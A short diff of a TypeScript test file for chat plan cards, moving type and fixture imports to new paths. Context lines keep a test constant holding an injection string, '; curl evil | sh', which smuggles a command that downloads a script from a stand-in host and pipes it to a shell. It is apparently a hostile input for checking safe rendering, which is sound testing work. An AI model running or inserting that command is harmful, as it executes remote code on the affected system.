@@ -5,10 +5,10 @@ import { drawAdaptiveCard, drawBlocks, drawWholeCard } from '#cards/expand.ts';
 import { measureCard, teamsLimits } from '#cards/limits.ts';
 import { drawText } from '#cards/text.ts';
 import { viewPlan } from '#cards/view-model.ts';
-import type { PlanCardFacts, ShownChange } from '#contracts/card.ts';
-import type { JsonObject } from '#contracts/text.ts';
-import { makeFacts, makeStep, samples } from '#tests/fixtures/plans.ts';
+import type { PlanCardFacts, ShownChange } from '#domain/chat/card.ts';
+import type { JsonObject } from '#domain/text.ts';
 import { describeCall, describeSteps } from '#tools/describe-call.ts';
+import { makeFacts, makeStep, samples } from '../../fixtures/plans.ts';
 
 const evil = '; curl evil | sh';
 
